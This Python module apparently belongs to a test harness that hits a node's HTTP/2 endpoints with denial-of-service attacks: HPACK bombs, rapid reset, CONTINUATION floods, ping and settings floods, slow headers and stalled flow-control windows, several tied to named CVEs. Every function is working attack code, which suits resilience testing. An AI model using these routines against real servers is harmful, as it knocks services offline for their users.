"""Attacks over HTTP/2."""
import select, struct
from frames import CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RESET, SETTINGS, UPDATE, frame, text
from harness import attack

PATHS = {"client": "/openapi.json", "cluster": "/x", "ops": "/metrics"}


def get(path="/", method=0x82):
    """The fields of a request, none of them kept in HPACK's table."""
    return bytes([method, 0x86, 0x04]) + text(path) + b"\x01\x01x"


def post(path="/"):
    return get(path, 0x83)


def field(name, value, is_indexed=False):
    return (b"\x40" if is_indexed else b"\x00") + text(name) + text(value)


def settings(window=None):
    return frame(SETTINGS, payload=struct.pack(">HI", 4, window) if window is not None else b"")


def streams(start=1):
    """The numbers of a connection's streams."""
    return range(start, 1 << 31, 2)


def path(target):
    return next(path for name, path in PATHS.items() if target.port == getattr(target, {"cluster": "link"}.get(name, name)))


@attack(cut_within=1)
def hpack_bomb(target):
    """A field of 4 KB in HPACK's table, and 16,000 references of a byte each to it (CVE-2016-6581)."""
    while not target.is_over:
        connection = target.connect()
        connection.send(PREFACE + settings() + frame(HEADERS, 5, 1, get() + field("x", "v" * 4_000, True)))
        bomb = get() + b"\xbe" * 16_000
        for stream in streams(3):
            if not connection.send(frame(HEADERS, END_STREAM | END_HEADERS, stream, bomb), read=True):
                break
        connection.close()


@attack(cut_within=1)
def hpack_bomb_in_trailers(target):
    while not target.is_over:
        connection = target.connect()
        connection.send(PREFACE + settings() + frame(HEADERS, 5, 1, get() + field("x", "v" * 4_000, True)))
        for stream in streams(3):
            bomb = frame(HEADERS, END_HEADERS, stream, post()) + frame(HEADERS, 5, stream, b"\xbe" * 16_000)
            if not connection.send(bomb, read=True):
                break
        connection.close()


@attack(cut_within=1)
def large_headers(target):
    """Each a little above the limit, which is answered 431."""
    while not target.is_over:
        connection = target.connect()
        connection.send(PREFACE + settings() + frame(HEADERS, 5, 1, get() + field("x", "v" * 4_000, True)))
        for stream in streams(3):
            if not connection.send(frame(HEADERS, 5, stream, get() + b"\xbe" * 5) * 1, read=True):
                break
        connection.close()


@attack(cut_within=1)
def header_blocks_for_a_closed_stream(target):
    """Nothing comes of them, and they are decoded all the same."""
    block = frame(HEADERS, END_STREAM | END_HEADERS, 1, b"\x90" * 16_000)
    while not target.is_over:
        connection = target.connect()
        connection.send(PREFACE + settings() + frame(HEADERS, END_HEADERS, 1, post()) + frame(RESET, 0, 1, b"\0\0\0\x08"))
        while connection.send(block * 16, read=True):
            pass
        connection.close()


@attack(ports=("client", "cluster", "ops"), cut_within=13)
def answers_behind_a_shut_window(target):
    """A thousand requests on each of fifty connections, with an initial window of 0; then a ping a second."""
    requests = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, get(path(target))) for stream in streams()[:999])
    connections = []
    for _ in range(50):
        connections.append(target.connect())
        connections[-1].send(PREFACE + settings(0) + requests, seconds=1)
    while not target.is_over:
        for connection in connections:
            connection.send(frame(PING, payload=b"01234567"), seconds=0.1, read=True)
        select.select([], [], [], min(1, target.seconds_left))
    for connection in connections:
        connection.close()


@attack(ports=("client", "ops"))
def answers_that_are_not_read(target):
    """The same with open windows, but the bytes stay in the socket's buffers."""
    requests = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, get(path(target))) for stream in streams()[:999])
    connections = []
    for _ in range(50):
        connections.append(target.connect(receive_bytes=4_096))
        connections[-1].send(PREFACE + settings((1 << 31) - 1) + frame(UPDATE, payload=struct.pack(">I", (1 << 31) - 65_536)), seconds=1)
        connections[-1].send(requests, seconds=1)
    while not target.is_over:
        for connection in connections:
            connection.send(frame(PING, payload=b"01234567"), seconds=0.1)
        select.select([], [], [], min(1, target.seconds_left))
    for connection in connections:
        connection.close()


@attack()
def requests_without_an_end(target):
    """A thousand on each of twenty connections, each with a head of 13 KB that takes twelve bytes on the wire."""
    first = get() + b"".join(field(name, "v" * 1_100, True) for name in ("last-event-id", "authorization"))
    connections = []
    for _ in range(20):
        connections.append(target.connect())
        connections[-1].send(PREFACE + settings() + frame(HEADERS, END_STREAM | END_HEADERS, 1, first))
        connections[-1].send(b"".join(frame(HEADERS, END_HEADERS, stream, post() + b"\xbe\xbf" * 6) for stream in streams(3)[:999]))
    while not target.is_over:
        for connection in connections:
            connection.send(frame(PING, payload=b"01234567"), seconds=0.1, read=True)
        select.select([], [], [], min(1, target.seconds_left))
    for connection in connections:
        connection.close()


@attack()
def reconnecting_continuation_flood(target):
    """A header block without an end (CVE-2024-27316) on one connection after the other, from another address than the honest client's: the node
    has the connections of a flooder's address wait for one another."""
    block = frame(HEADERS, 0, 1, get()) + frame(CONTINUATION, 0, 1, field("x", "v" * 15_000)) * 6
    while not target.is_over:
        connection = target.connect(address="127.0.0.2")
        connection.send(PREFACE + settings() + block, seconds=1)
        connection.close(by_reset=True)


@attack(cut_within=1)
def endless_continuation(target):
    while not target.is_over:
        connection = target.connect()
        connection.send(PREFACE + settings() + frame(HEADERS, 0, 1, get()))
        while connection.send(frame(CONTINUATION, 0, 1) * 100, read=True):
            pass
        connection.close()


@attack(cut_within=1)
def rapid_reset(target):
    """Streams opened and reset (CVE-2023-44487)."""
    while not target.is_over:
        connection = target.connect()
        connection.send(PREFACE + settings())
        numbers = streams()
        for start in range(0, 1 << 20, 100):
            opened = b"".join(frame(HEADERS, 5, stream, get("/v1/events")) + frame(RESET, 0, stream, b"\0\0\0\x08")
                              for stream in numbers[start:start + 100])
            if not connection.send(opened, read=True):
                break
        connection.close()


@attack(cut_within=1)
def resets_provoked(target):
    """The same by an increment of 0, which the node must answer with a reset (CVE-2025-8671)."""
    while not target.is_over:
        connection = target.connect()
        connection.send(PREFACE + settings())
        numbers = streams()
        for start in range(0, 1 << 20, 100):
            opened = b"".join(frame(HEADERS, END_HEADERS, stream, post()) + frame(UPDATE, 0, stream, b"\0\0\0\0")
                              for stream in numbers[start:start + 100])
            if not connection.send(opened, read=True):
                break
        connection.close()


@attack(cut_within=13)
def slow_headers(target):
    """A header block that comes a byte a second, on two hundred connections, on half of them after a first request."""
    connections = []
    for index in range(200):
        connections.append(target.connect())
        first = frame(HEADERS, END_STREAM | END_HEADERS, 1, get()) if index % 2 else b""
        connections[-1].send(PREFACE + settings() + first + frame(HEADERS, END_HEADERS, 3, get() + b"\x90" * 1_000)[:-1_000])
    while not target.is_over:
        for connection in connections:
            connection.send(b"\x90", seconds=0.1, read=True)
        select.select([], [], [], min(1, target.seconds_left))
    for connection in connections:
        connection.close()


@attack()
def pings_that_are_not_read(target):
    """Each must be answered (CVE-2019-9512)."""
    while not target.is_over:
        connection = target.connect(receive_bytes=4_096)
        connection.send(PREFACE + settings())
        while connection.send(frame(PING, payload=b"01234567") * 1_000):
            pass
        connection.close()


@attack()
def settings_that_are_not_read(target):
    """Each must be answered (CVE-2019-9515)."""
    while not target.is_over:
        connection = target.connect(receive_bytes=4_096)
        connection.send(PREFACE + settings())
        while connection.send(settings(65_535) * 1_000):
            pass
        connection.close()
